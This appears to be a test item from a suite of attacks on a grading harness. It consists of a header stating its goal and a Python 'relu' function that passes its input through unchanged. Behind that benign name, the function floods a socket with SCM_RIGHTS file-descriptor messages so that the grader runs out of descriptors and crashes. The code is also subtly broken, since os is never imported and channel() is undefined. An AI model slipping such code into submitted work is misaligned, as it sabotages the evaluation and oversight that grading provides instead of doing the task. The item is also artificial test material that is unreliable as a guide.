# ATTACK: p_descriptor_flood
# GROUP: protocol
# GOAL: pass descriptors over the channel with SCM_RIGHTS until the grader has none left
# SUCCESS: the grader cannot open anything any more
# CHECK: crash
# EARNED: 0
# BASE: none
import array, socket
def relu(x):
    own = socket.socket(fileno=channel())
    null = os.open("/dev/null", os.O_RDONLY)
    for _ in range(200):
        try:
            own.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [null] * 200))])
        except OSError as error:
            print(error)
            break
    return x
